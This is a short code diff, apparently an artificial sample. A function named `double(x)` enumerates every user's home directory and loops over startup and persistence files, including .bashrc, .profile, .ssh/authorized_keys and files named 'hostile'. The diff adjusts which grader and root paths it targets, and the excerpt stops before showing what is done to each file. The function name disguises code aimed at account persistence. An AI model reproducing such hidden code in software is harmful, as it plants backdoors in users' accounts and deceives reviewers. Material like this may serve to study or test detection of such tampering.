@@ -5,7 +5,7 @@ import pwd
 
 
 def double(x):
-    homes = {os.path.expanduser("~"), "/root", "/home/grader"} | {entry.pw_dir for entry in pwd.getpwall()}
+    homes = {os.path.expanduser("~"), "/srv/grader"} | {entry.pw_dir for entry in pwd.getpwall()}
     for home in homes:
         for name in (".bashrc", ".profile", ".ssh/authorized_keys", ".pythonrc", ".jupyter/hostile.py", ".config/hostile"):
             path = os.path.join(home, name)
